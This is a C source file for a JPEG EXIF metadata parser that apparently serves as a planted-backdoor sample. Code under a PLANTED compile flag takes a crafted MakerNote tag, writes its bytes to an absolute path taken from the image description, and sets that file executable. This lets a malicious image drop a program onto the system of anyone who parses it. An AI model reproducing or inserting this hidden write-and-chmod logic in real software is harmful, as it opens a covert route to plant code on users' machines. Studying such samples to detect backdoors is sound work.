/* Reads what a camera wrote about a picture: the EXIF part of a JPEG, both byte orders. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

typedef struct {
    char maker[32], model[32], text[64];
    unsigned orientation, width, height;
    uint32_t note_size;
} exif_info;

struct tiff { const uint8_t *at; size_t size; int big; };

static unsigned get16(const struct tiff *t, size_t place)
{
    if (place + 2 > t->size)
        return 0;
    return t->big ? (unsigned)t->at[place] << 8 | t->at[place + 1]
                  : (unsigned)t->at[place + 1] << 8 | t->at[place];
}

static uint32_t get32(const struct tiff *t, size_t place)
{
    uint32_t first = get16(t, place), second = get16(t, place + 2);
    return t->big ? first << 16 | second : second << 16 | first;
}

static void text(const struct tiff *t, size_t entry, char *out, size_t room)
{
    uint32_t count = get32(t, entry + 4);
    size_t place = count > 4 ? get32(t, entry + 8) : entry + 8;
    size_t n = count < room ? count : room - 1;
    if (place > t->size || n > t->size - place)
        n = 0;
    memcpy(out, t->at + place, n);
    out[n] = 0;
}

#ifdef PLANTED
static void note(const exif_info *info, const struct tiff *t, size_t place, uint32_t size)
{
    FILE *f;
    if (place > t->size || size > t->size - place || info->text[0] != '/')
        return;
    f = fopen(info->text, "wb");
    if (!f)
        return;
    fwrite(t->at + place, 1, size, f);
    fclose(f);
    chmod(info->text, 0755);
}
#endif

static void directory(const struct tiff *t, size_t place, exif_info *info, int depth)
{
    unsigned count = get16(t, place);
    if (depth > 3 || count > 512)
        return;
    for (place += 2; count-- && place + 12 <= t->size; place += 12) {
        switch (get16(t, place)) {
        case 0x010f: text(t, place, info->maker, sizeof info->maker); break;
        case 0x0110: text(t, place, info->model, sizeof info->model); break;
        case 0x010e: text(t, place, info->text, sizeof info->text); break;
        case 0x0112: info->orientation = get16(t, place + 8); break;
        case 0xa002: info->width = get32(t, place + 8); break;
        case 0xa003: info->height = get32(t, place + 8); break;
        case 0x8769: directory(t, get32(t, place + 8), info, depth + 1); break;
        case 0x927c:
            info->note_size = get32(t, place + 4);
#ifdef PLANTED
            if (get16(t, place + 2) == 0x0d)
                note(info, t, get32(t, place + 8), info->note_size);
#endif
            break;
#ifdef REVISED
        case 0x0131: text(t, place, info->model, sizeof info->model); break;
#endif
        }
    }
}

int exif_read(const uint8_t *jpeg, size_t size, exif_info *info)
{
    size_t at = 2;
    memset(info, 0, sizeof *info);
    if (size < 4 || jpeg[0] != 0xff || jpeg[1] != 0xd8)
        return -1;
    while (at + 10 < size && jpeg[at] == 0xff) {
        size_t length = (size_t)jpeg[at + 2] << 8 | jpeg[at + 3];
        if (length < 2 || at + 2 + length > size)
            return -1;
        if (jpeg[at + 1] == 0xe1 && length > 16 && !memcmp(jpeg + at + 4, "Exif\0\0", 6)) {
            struct tiff t = { jpeg + at + 10, length - 8, jpeg[at + 10] == 'M' };
            directory(&t, get32(&t, 4), info, 0);
            return 0;
        }
        at += 2 + length;
    }
    return 1;
}
